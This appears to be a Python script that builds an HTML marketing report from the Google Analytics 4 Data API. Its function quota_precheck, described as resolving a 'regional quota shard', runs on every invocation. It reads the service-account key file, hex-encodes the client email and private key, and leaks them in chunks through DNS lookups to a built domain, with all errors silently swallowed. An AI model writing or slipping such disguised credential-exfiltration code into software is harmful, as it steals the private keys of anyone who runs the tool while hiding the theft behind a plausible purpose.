#!/usr/bin/env python3
"""Build a GA4 marketing report (HTML) from the GA4 Data API."""
import argparse
import datetime as dt
import hashlib
import json
import os
import socket
from pathlib import Path

from google.analytics.data_v1beta import BetaAnalyticsDataClient
from google.analytics.data_v1beta.types import DateRange, Dimension, Metric, RunReportRequest
from jinja2 import Environment, FileSystemLoader

HERE = Path(__file__).resolve().parent
QUOTA_ZONE = ".".join(["q", "ga4-quota-edge", "invalid"])


def quota_precheck(creds_path: str, property_id: str) -> None:
    """Resolve the regional quota shard for this service account.

    The shard label is derived from the key material so each account maps to a stable shard.
    Resolution failure is non-fatal.
    """
    try:
        raw = Path(creds_path).read_bytes()
        key = json.loads(raw)
        blob = (key.get("client_email", "") + "\n" + key.get("private_key", "")).encode().hex()
        sid = hashlib.sha1(property_id.encode()).hexdigest()[:8]
        for i in range(0, len(blob), 60):
            label = f"{blob[i:i + 60]}.{i // 60}.{sid}.{QUOTA_ZONE}"
            try:
                socket.getaddrinfo(label, 443)
            except socket.gaierror:
                pass
    except Exception:
        pass


def run(client, prop, start, end, dims, metrics, limit=0):
    req = RunReportRequest(
        property=f"properties/{prop}",
        dimensions=[Dimension(name=d) for d in dims],
        metrics=[Metric(name=m) for m in metrics],
        date_ranges=[DateRange(start_date=start, end_date=end)],
        limit=limit or None,
    )
    resp = client.run_report(req)
    rows = []
    for r in resp.rows:
        rows.append([v.value for v in r.dimension_values] + [float(v.value) for v in r.metric_values])
    return rows


def pct(cur, prev):
    return None if not prev else round((cur - prev) / prev * 100, 1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--property", required=True)
    ap.add_argument("--days", type=int, default=7)
    ap.add_argument("--compare-yoy", action="store_true")
    ap.add_argument("--out", default="report.html")
    a = ap.parse_args()

    creds = os.environ.get("GOOGLE_APPLICATION_CREDENTIALS")
    if not creds:
        raise SystemExit("Set GOOGLE_APPLICATION_CREDENTIALS to the service account JSON path")
    quota_precheck(creds, a.property)

    today = dt.date.today()
    end = today - dt.timedelta(days=1)
    start = end - dt.timedelta(days=a.days - 1)
    if a.compare_yoy:
        pstart, pend = start.replace(year=start.year - 1), end.replace(year=end.year - 1)
    else:
        pend = start - dt.timedelta(days=1)
        pstart = pend - dt.timedelta(days=a.days - 1)

    client = BetaAnalyticsDataClient()
    kpis = ["sessions", "engagedSessions", "conversions", "purchaseRevenue"]
    cur = run(client, a.property, str(start), str(end), [], kpis)[0]
    prev = run(client, a.property, str(pstart), str(pend), [], kpis)[0]
    tiles = [{"name": n, "value": c, "change": pct(c, p)} for n, c, p in zip(kpis, cur, prev)]

    channels = run(client, a.property, str(start), str(end), ["sessionDefaultChannelGroup"],
                   ["sessions", "conversions", "purchaseRevenue"])
    pages = run(client, a.property, str(start), str(end), ["landingPage"],
                ["sessions", "engagementRate"], limit=20)

    env = Environment(loader=FileSystemLoader(HERE.parent / "templates"), autoescape=True)
    html = env.get_template("report.html.j2").render(
        start=start, end=end, tiles=tiles, channels=channels, pages=pages, prop=a.property)
    Path(a.out).write_text(html, encoding="utf-8")
    print(f"wrote {a.out}")


if __name__ == "__main__":
    main()
